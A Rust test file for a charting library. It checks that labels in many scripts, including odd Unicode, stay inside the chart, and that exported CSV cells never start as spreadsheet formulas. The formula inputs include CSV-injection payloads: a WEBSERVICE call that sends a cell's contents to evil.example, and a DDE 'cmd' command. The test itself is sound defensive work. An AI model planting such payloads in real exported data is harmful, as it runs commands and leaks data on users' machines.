//! Names in every script, and such as nobody would choose, in every place for words, at every
//! width: nothing traps, nothing leaves the picture, nothing is cut inside a letter; and a
//! spreadsheet takes none for a formula.

use duibi::compare::compare;
use duibi::data::{Dataset, Query, read};
use duibi::say::{Lang, Teller};
use duibi::scene::Mark;
use duibi::state::State;
use serde_json::json;

use crate::support::{count, figure, random};

const SCRIPTS: [&str; 32] = [
    "Qingjiangpu District",
    "清江浦区新签约项目",
    "淮陰區新簽約專案",
    "東京都の新規契約",
    "서울특별시 신규 계약",
    "مشاريع جديدة في المنطقة",
    "פרויקטים חדשים באזור",
    "नए हस्ताक्षरित परियोजनाएँ",
    "স্বাক্ষরিত নতুন প্রকল্প",
    "புதிய திட்டங்கள் கையெழுத்து",
    "โครงการใหม่ที่ลงนามแล้ว",
    "គម្រោងថ្មីដែលបានចុះហត្ថលេខា",
    "လက်မှတ်ရေးထိုးသည့်စီမံကိန်း",
    "མཚན་རྟགས་བཀོད་པའི་ལས་གཞི",
    "ახალი ხელმოწერილი პროექტები",
    "Նոր ստորագրված ծրագրեր",
    "Νέα υπογεγραμμένα έργα",
    "Новые подписанные проекты",
    "አዲስ የተፈረሙ ፕሮጀክቶች",
    "ᠰᠢᠨ᠎ᠡ ᠲᠥᠰᠥᠯ",
    "නව ව්‍යාපෘති අත්සන්",
    "👩‍👩‍👧‍👦🏳️‍🌈👍🏽🇨🇳1️⃣",
    "e\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}\u{30c}a\u{300}",
    "\u{202e}drawkcab\u{202c} \u{2067}مرحبا\u{2069} \u{200f}x",
    "a\u{0}b\u{1}c\u{7f}",
    "\u{feff}\u{200b}\u{200c}\u{2060}",
    "line\nbreak\r\n\ttab\u{2028}\u{2029}",
    "𠀀𠀁𠀂𪚥𝒜𝓑",
    "ﷺﷻ﷽",
    "<b>&amp;\"'`</b>",
    "…………",
    " ",
];

/// What spreadsheets take for the beginning of a formula, alone and behind what they pass over.
const STARTS: [&str; 16] = [
    "=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "\"=", "'=", " =", ";=", "|=",
];
const FORMULAS: [&str; 6] = [
    "1+1",
    "SUM(A1:A9)",
    "HYPERLINK(\"https://evil.example\";\"x\")",
    "cmd|' /C calc'!A0",
    "WEBSERVICE(\"https://evil.example/\"&A1)",
    "A1,\"=2+2\"",
];

/// A name of a seed: of a script, with a number, long now and then.
fn label(seed: u64) -> String {
    let mut state = seed.wrapping_mul(0x9E37_79B9);
    let script = SCRIPTS[usize::try_from(seed).unwrap() % SCRIPTS.len()];
    match random(&mut state) % 8 {
        0 => script.repeat(10_000 / script.len()),
        1 => format!("{script}\u{301}").repeat(50),
        2 => script.repeat(3),
        _ => format!("{script} {seed}"),
    }
}

/// A document with these in each of its places for words.
fn filled(form: &str, of: impl Fn(u64) -> String) -> Dataset {
    let observation = |entity: &str, value: f64, at: u64| {
        json!({"entity": entity, "metric": "m", "period": "2022", "value": value, "unit": "个",
            "source": "s", "note": of(at),
            "printed": of(at + 1), "scope": {of(at + 2): of(at + 3)}})
    };
    let document = json!({
        "format": "duibi/1", "id": "labels", "title": of(0), "notes": of(1),
        "sources": [{"id": "s", "title": of(2), "publisher": of(3)}],
        "entities": [{"id": "a", "name": of(4)}, {"id": "b", "name": of(5)},
            {"id": "c", "name": of(6)}],
        "metrics": [{"id": "m", "name": of(7), "unit": "个", "definition": of(8)}],
        "observations": [observation("a", 46.0, 9), observation("b", -3.5, 10),
            observation("c", 7.0, 11)],
        "views": [{"id": "v", "form": form, "x": "m", "title": of(12), "subtitle": of(13),
            "caption": of(14),
            "annotations": [{"at": {"entity": "a"}, "text": of(15)}]}],
    });
    read(document.to_string().as_bytes()).dataset
}

/// Whether a text that ends in dots was cut inside what a reader takes for one letter.
fn is_cut_inside(text: &str, names: &[String]) -> bool {
    let Some(kept) = text.strip_suffix('…') else { return false };
    let joins = |c: char| {
        matches!(c, '\u{300}'..='\u{36f}' | '\u{200d}' | '\u{fe0f}' | '\u{20e3}')
            || matches!(c, '\u{1f3fb}'..='\u{1f3ff}')
    };
    let next = names.iter().filter_map(|name| name.strip_prefix(kept)?.chars().next());
    let all: Vec<char> = next.collect();
    !kept.is_empty() && !all.is_empty() && all.iter().all(|c| joins(*c))
}

#[test]
fn names_in_every_script_stay_inside_the_picture_at_every_width_and_are_cut_between_letters() {
    let many = count("DUIBI_NAMES", 48);
    let (mut drawn, mut wrong) = (0_u64, Vec::new());
    for seed in 0..many {
        let form = ["bar", "column", "dot", "lollipop"][usize::try_from(seed).unwrap() % 4];
        let names: Vec<String> = (0..20).map(|at| label(seed + at)).collect();
        let dataset = filled(form, |at| label(seed + at % 20));
        for step in 0..9_u32 {
            let width = 40.0 + f64::from(step * 120) + f64::from(u32::try_from(seed % 7).unwrap());
            let lang = Lang::ALL[usize::try_from(seed).unwrap() % Lang::ALL.len()];
            let state = State { width, lang, ..State::of(&dataset, Some(0)) };
            let scene = duibi::scene(&dataset, &state);
            drawn += 1;
            // the element is no narrower
            if width < 240.0 {
                continue;
            }
            for mark in &scene.marks {
                let Mark::Text { text, .. } = mark else { continue };
                let b = mark.bounds();
                let inside = b.x0 >= -0.5 && b.x1 <= scene.size.width + 0.5 && b.y1.is_finite();
                if !inside || is_cut_inside(text, &names) {
                    let shown: String = text.chars().take(40).collect();
                    wrong.push(format!("{seed} {form} at {width}: {shown:?} {b:?}"));
                }
            }
        }
    }
    figure(
        "R17",
        format!(
            "{drawn} pictures with names of {many} kinds in 16 places, \
             {} texts outside or cut in a letter",
            wrong.len()
        ),
    );
    assert!(wrong.is_empty(), "{}\n{}", wrong.len(), wrong[..wrong.len().min(30)].join("\n"));
}

/// The figures of a chart as a reader takes them away.
fn csv(dataset: &Dataset) -> String {
    let comparison = compare(dataset, &Query::of_view(&dataset.views[0]));
    Teller::new(dataset, &comparison, Lang::EN).csv()
}

/// The cells of a text as a spreadsheet parts it: quotes count where a cell begins with one.
fn fields(text: &str, apart: char) -> Vec<String> {
    let mut out = vec![String::new()];
    let (mut is_quoted, mut is_first) = (false, true);
    let mut rest = text.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(c) = rest.next() {
        match c {
            '"' if is_quoted && rest.next_if_eq(&'"').is_none() => is_quoted = false,
            '"' if is_first => is_quoted = true,
            c if !is_quoted && (c == apart || c == '\n' || c == '\r') => {
                out.push(String::new());
                is_first = true;
                continue;
            }
            c => out.last_mut().unwrap().push(c),
        }
        is_first = false;
    }
    out
}

#[test]
fn no_cell_of_a_table_that_is_taken_away_begins_as_a_formula() {
    let many = count("DUIBI_FORMULAS", 96);
    let formula = |seed: u64| {
        let at = usize::try_from(seed).unwrap();
        format!(
            "{}{} {seed}",
            STARTS[at % STARTS.len()],
            FORMULAS[at / STARTS.len() % FORMULAS.len()]
        )
    };
    let folder = std::env::var_os("DUIBI_CSV").map(std::path::PathBuf::from);
    let (mut cells, mut bad) = (0, Vec::new());
    for seed in (0..many).step_by(16) {
        let text = csv(&filled("bar", |at| formula(seed + at)));
        if let Some(folder) = &folder {
            std::fs::write(folder.join(format!("{seed}.csv")), &text).unwrap();
        }
        // whichever separator a spreadsheet takes
        for cell in [',', ';', '\t'].into_iter().flat_map(|apart| fields(&text, apart)) {
            cells += 1;
            let is_number = cell.parse::<f64>().is_ok();
            if cell.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
                && !is_number
            {
                bad.push(format!("{seed}: {cell:?}"));
            }
        }
    }
    figure(
        "S8",
        format!(
            "{many} names that would be formulas, in {cells} cells: {} begin as one",
            bad.len()
        ),
    );
    assert!(bad.is_empty(), "{}\n{}", bad.len(), bad[..bad.len().min(20)].join("\n"));
}
